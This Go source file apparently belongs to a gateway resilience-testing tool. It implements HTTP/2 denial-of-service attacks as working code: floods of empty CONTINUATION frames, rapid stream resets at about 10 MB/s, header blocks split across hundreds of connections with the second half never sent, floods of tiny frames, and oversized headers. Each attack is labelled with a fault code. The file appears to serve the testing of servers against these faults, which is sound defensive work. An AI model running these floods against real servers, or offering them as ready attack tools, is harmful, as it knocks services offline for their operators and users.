package attack

import (
	"bytes"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frameAttacks misuse HTTP/2 itself.
var frameAttacks = []Attack{
	{Name: "continuations", Faults: "C4", What: "20 connections: a header block of 16,000 empty CONTINUATION frames, then 98 promised bodies", run: continuations},
	{Name: "rapid-reset", Faults: "C7", What: "1 connection that opens and resets streams at 10 MB/s", run: rapidReset},
	{Name: "split-headers", Faults: "C9", What: "500 connections whose first headers come in two halves, the second never", run: splitHeaders},
	{Name: "tiny-frames", Faults: "C14", What: "20 connections: 65 kB of frames of 9 bytes, each written alone, before the first headers", run: tinyFrames},
	{Name: "empty-continuations", Faults: "C14", What: "200 connections that keep a first header block of 5,000 empty CONTINUATION frames", run: emptyContinuations},
	{Name: "large-headers", Faults: "C16", What: "20 connections of calls with 18,000 bytes of headers", run: largeHeaders},
}

// shredded sends a header block as so many empty CONTINUATION frames and one that
// holds all, and says whether the connection took it.
func (h *connection) shredded(header []hpack.HeaderField, pieces int) bool {
	h.places <- struct{}{}
	h.crowd.note(func(o *Outcome) { o.Calls++ })
	return h.write(func() error {
		stream := h.begin()
		if err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream}); err != nil {
			return err
		}
		// Nine bytes each: written together, or the attacker's own calls are the cost.
		empty := strings.Repeat(string([]byte{0, 0, 0, byte(http2.FrameContinuation), 0, byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}), 1000)
		for range pieces / 1000 {
			if _, err := h.Write([]byte(empty)); err != nil {
				return err
			}
		}
		return h.framer.WriteContinuation(stream, true, h.encode(header))
	})
}

func continuations(c *crowd) {
	header, first := c.header(publish), append(prefix(largestMessage, false), 0x0a)
	c.comes(20, time.Second, 65535, true, func(h *connection) {
		taken := h.shredded(header, 16_000)
		for n := 0; taken && n < openStreams-2; n++ {
			if id := h.open(header); id == 0 || !h.send(id, first, false) {
				break
			}
		}
		h.wait()
	})
}

func emptyContinuations(c *crowd) {
	header := c.header(query)
	c.comes(200, time.Second, 65535, true, func(h *connection) {
		h.shredded(header, 5_000)
		h.wait()
	})
}

// rapidReset gives up every call as soon as it has begun. A gateway ends the
// connection at some point; the attacker comes back.
func rapidReset(c *crowd) {
	const aTick, perTick = 10 * time.Millisecond, 100_000 // bytes
	header := c.header(query)
	c.comes(1, 50*time.Millisecond, 65535, true, func(h *connection) {
		for !h.isOver() && c.rest(aTick) && h.resets(header, perTick) {
		}
	})
}

// resets opens and resets streams with so many bytes.
func (h *connection) resets(header []hpack.HeaderField, size int) bool {
	calls := 0
	defer func() { h.crowd.note(func(o *Outcome) { o.Calls += calls }) }()
	return h.write(func() error {
		batch := &batch{}
		framer := http2.NewFramer(batch, nil)
		for len(batch.bytes) < size {
			id := h.next // not begun: nobody waits for its end
			h.next += 2
			calls++
			_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: h.encode(header), EndHeaders: true})
			_ = framer.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		_, err := h.Write(batch.bytes)
		return err
	})
}

// batch collects frames that are to be written together.
type batch struct{ bytes []byte }

func (b *batch) Write(p []byte) (int, error) {
	b.bytes = append(b.bytes, p...)
	return len(p), nil
}

func splitHeaders(c *crowd) {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, field := range c.header(query) {
		_ = encoder.WriteField(field) // to memory
	}
	// Without the acknowledgements of a connection: nothing may come between halves.
	c.visits(500, time.Second, http2.NextProtoTLS, func(conn net.Conn) {
		framer := http2.NewFramer(conn, nil)
		_, _ = conn.Write([]byte(http2.ClientPreface))
		_ = framer.WriteSettings()
		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block.Bytes()[:block.Len()/2]})
		if _, err := io.Copy(io.Discard, conn); err == nil {
			c.ended("connection closed")
		}
	})
}

// tinyFrames makes a reader that looks for the first headers look 7,000 times.
func tinyFrames(c *crowd) {
	unknown := []byte{0, 0, 0, 0xfa, 0, 0, 0, 0, 0} // a frame that is to be ignored
	c.visits(20, 100*time.Millisecond, http2.NextProtoTLS, func(conn net.Conn) {
		_, _ = conn.Write(append([]byte(http2.ClientPreface), 0, 0, 0, byte(http2.FrameSettings), 0, 0, 0, 0, 0))
		for range 7_000 {
			if _, err := conn.Write(unknown); err != nil {
				c.ended("connection closed")
				return
			}
		}
		drain(conn)
	})
}

// drain reads for a moment what the other side has to say.
func drain(conn net.Conn) {
	_ = conn.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
	buffer := make([]byte, 4<<10)
	for {
		if _, err := conn.Read(buffer); err != nil {
			return
		}
	}
}

func largeHeaders(c *crowd) {
	large := strings.Repeat("x", 6_000)
	header := c.header(query, hpack.HeaderField{Name: "x-a", Value: large}, hpack.HeaderField{Name: "x-b", Value: large + "b"}, hpack.HeaderField{Name: "x-c", Value: large + "c"})
	body := framed(nil)
	c.comes(20, 100*time.Millisecond, 65535, true, func(h *connection) {
		for c.rest(20 * time.Millisecond) {
			id := h.open(header)
			if id == 0 {
				return
			}
			h.send(id, body, true) // refused by then, maybe
		}
	})
}
